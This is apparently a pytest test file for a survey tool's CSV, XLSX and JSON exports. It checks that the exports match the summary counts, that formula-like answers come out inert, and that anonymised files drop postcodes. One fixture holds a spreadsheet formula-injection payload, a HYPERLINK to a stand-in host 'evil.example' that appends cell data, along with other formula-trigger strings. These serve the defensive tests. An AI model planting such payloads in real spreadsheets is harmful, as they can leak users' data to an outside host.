"""Exports read back with the csv module and openpyxl: they match the summary, answers
that look like formulas come out inert, and anonymised files have no personal data."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from support.results import add_response, publish_results_survey

from surveybuilder.cli import main
from surveybuilder.results import counting, exports, themes

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
NASTY = [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tindent", "\rreturn"]


@pytest.fixture
def survey(db_session, organisation, make_consultation, ready_definition):
    survey = publish_results_survey(db_session, organisation, make_consultation,
                                    ready_definition)
    for index, text in enumerate(NASTY + ["Fine words, and “quotes”"]):
        add_response(db_session, survey, {
            "visit": ["weekly", "never"][index % 2], "use": ["walk", "sport"][: index % 3 + 1],
            "minutes": -5 if index == 0 else index, "last_visit": "2026-10-0" + str(index + 1),
            "ideas": text, "postcode": "B66 1AA", "cafe": "yes"},
            channel="paper" if index % 3 == 0 else "online")
    theme = themes.add_theme(db_session, survey[0], "=Lighting")
    first, _ = themes.comments(db_session, survey[0], themes.CommentQuery())
    themes.code_comment(db_session, survey[0], first[0].response_id, "ideas", [theme.id], None)
    db_session.commit()
    return survey


def read_csv(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_matches_the_summary_and_is_inert(db_session, survey):
    consultation = survey[0]
    rows = read_csv("".join(exports.responses_csv(db_session, consultation, codes=True)))
    summary = counting.summarise(db_session, consultation)
    assert len(rows) == summary.respondents == 7
    assert list(rows[0])[:len(exports.FIXED_COLUMNS)] == list(exports.FIXED_COLUMNS)
    for option in summary.question("visit").options:
        assert sum(r["visit"] == option.key for r in rows) == option.count
    for option in summary.question("use").options:
        assert sum(r[f"use.{option.key}"] == "1" for r in rows) == option.count
    minutes = [float(r["minutes"]) for r in rows]
    assert min(minutes) == summary.question("minutes").numbers.minimum == -5
    ideas = [r["ideas"] for r in rows]
    for nasty in NASTY:  # a carriage return is a line break, written as a plain newline
        assert "'" + nasty.replace("\r", "\n") in ideas
    assert not any(value.startswith(exports.FORMULA_STARTS)
                   for r in rows for key, value in r.items() if key != "minutes")
    assert rows[0]["ideas.themes"] == "'=Lighting"
    assert {r["channel"] for r in rows} == {"online", "paper"}


def test_anonymised_csv_has_no_personal_data_column(db_session, survey):
    rows = read_csv("".join(exports.responses_csv(db_session, survey[0], anonymised=True,
                                                  codes=True)))
    assert "postcode" not in rows[0]
    assert not any("B66" in value for r in rows for value in r.values())


def test_xlsx_has_responses_summaries_and_codebook_and_no_formulas(db_session, survey,
                                                                  tmp_path):
    consultation = survey[0]
    summary = counting.summarise(db_session, consultation)
    target = tmp_path / "out.xlsx"
    exports.write_xlsx(db_session, consultation, target, summary)
    book = load_workbook(target)  # not read-only, so formulas would show as data_type "f"
    responses = book["Responses"]
    header = [c.value for c in responses[1]]
    assert header[:len(exports.FIXED_COLUMNS)] == list(exports.FIXED_COLUMNS)
    assert "postcode" in header
    cells = [c for row in responses.iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULA in texts
    assert not any(t.startswith(exports.FORMULA_STARTS) for t in texts)
    assert responses.max_row == 9  # the keys, the questions' words, 7 responses
    visit = book["Q1"]
    counts = {row[0].value: row[2].value for row in visit.iter_rows(min_row=7)}
    assert counts == {o.key: o.count for o in summary.question("visit").options}
    assert [c.value for c in book["Codebook"][2]] == [1, "'=Lighting", None]
    assert book["Codebook"]["B2"].data_type == "s"
    book.close()
    anonymised = tmp_path / "anon.xlsx"
    exports.write_xlsx(db_session, consultation, anonymised, summary, anonymised=True)
    book = load_workbook(anonymised, read_only=True)
    assert "postcode" not in [c.value for c in next(book["Responses"].iter_rows(max_row=1))]
    assert "Q9" not in book.sheetnames  # the postcode question's summary sheet
    book.close()


def test_json_has_responses_and_summary(db_session, survey):
    consultation = survey[0]
    leave_out = exports.personal_keys(counting.live_definition(db_session, consultation))
    data = json.loads("".join(exports.responses_json(
        db_session, consultation, leave_out, counting.summarise(db_session, consultation))))
    assert data["summary"]["respondents"] == len(data["responses"]) == 7
    assert all("postcode" not in r["answers"] for r in data["responses"])
    assert "postcode" not in [q["key"] for q in data["summary"]["questions"]]
    visit = next(q for q in data["summary"]["questions"] if q["key"] == "visit")
    assert visit["summary"].startswith("Most chosen")


def test_cli_export_and_results(app, survey, tmp_path, monkeypatch):
    monkeypatch.setenv("SURVEYBUILDER_DATABASE_URL", app.config["DATABASE_URL"])
    runner = CliRunner()
    output = tmp_path / "r.csv"
    result = runner.invoke(main, ["export", "park-results", "--format", "csv",
                                  "--anonymised", "--codes", "--output", str(output)])
    assert result.exit_code == 0, result.output
    rows = read_csv(output.read_text(encoding="utf-8"))
    assert len(rows) == 7 and "postcode" not in rows[0]
    result = runner.invoke(main, ["export", "park-results", "--format", "xlsx", "--output",
                                  str(tmp_path / "r.xlsx")])
    assert result.exit_code == 0, result.output
    book = load_workbook(tmp_path / "r.xlsx", read_only=True)
    assert len(list(book["Responses"].iter_rows())) == 9
    book.close()
    result = runner.invoke(main, ["results", "park-results", "--format", "json"])
    assert json.loads(result.output)["respondents"] == 7
    text = runner.invoke(main, ["results", "park-results", "--published"]).output
    assert "Every week: fewer than 5" in text and "Never: fewer than 5" in text
    assert "Every month: 0" in text
